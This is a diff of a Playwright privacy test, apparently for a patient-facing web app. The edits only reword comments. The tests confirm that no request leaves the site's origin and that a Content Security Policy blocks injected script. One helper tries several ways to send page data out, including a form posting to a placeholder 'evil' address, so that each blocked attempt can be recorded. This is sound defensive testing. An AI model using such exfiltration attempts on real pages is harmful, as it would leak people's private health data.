@@ -1,11 +1,11 @@
-/** From the first page to the review: nothing is asked of, or told to, anybody else; no address tells of anybody. */
+/** From the first page to the review: no request goes to a third party, and no URL contains personal data. */
 import type { BrowserContext } from '@playwright/test';
 import { ROSA } from '../../testing/browser/answers.ts';
 import { completeStep, confirmUnusual, patientWith, stepsOf } from '../../testing/browser/patient.ts';
 import { signIn } from '../../testing/browser/staff.ts';
 import { expect, test } from '../../testing/browser/test.ts';
 
-/** Where a whole context asks, workers and beacons included. */
+/** Covers requests of the whole context, including workers and beacons. */
 function addressesOf(context: BrowserContext): string[] {
   const asked: string[] = [];
   context.on('request', (request) => asked.push(request.url()));
@@ -16,7 +16,7 @@ const ofNobody = (addresses: readonly string[], origin: string | undefined): voi
   expect(addresses.length).toBeGreaterThan(10);
   const foreign = addresses.filter((url) => !/^(data|blob):/.test(url) && new URL(url).origin !== origin);
   expect(foreign).toEqual([]);
-  // Ids and the hashes in the names of built files may hold any digits.
+  // Ids and the hashes in the names of built files may contain any digits.
   const said = addresses
     .filter((url) => !/^(data|blob):/.test(url) && !url.includes('/assets/'))
     .map((url) => url.toLowerCase().replace(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, ''));
@@ -84,7 +84,7 @@ test('what somebody smuggled into a page reaches nobody', async ({ page }) => {
   expect(ran).toBe(false);
 });
 
-/** Runs in the page: every way out it can think of. Resolves to the rules that stopped them. */
+/** Runs in the page: tries every way to send data out. Resolves to the CSP directives that blocked them. */
 async function smuggle(): Promise<{ blocked: string[]; ran: boolean }> {
   const blocked: string[] = [];
   document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
@@ -108,7 +108,7 @@ async function smuggle(): Promise<{ blocked: string[]; ran: boolean }> {
   const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
   document.body.append(form);
   form.submit();
-  // Told in tasks of their own.
+  // Violations are reported in separate tasks.
   const enough = () => new Set(blocked).size >= 7;
   for (let turn = 0; turn < 500 && !enough(); turn += 1) {
     await new Promise((resolve) => requestAnimationFrame(resolve));
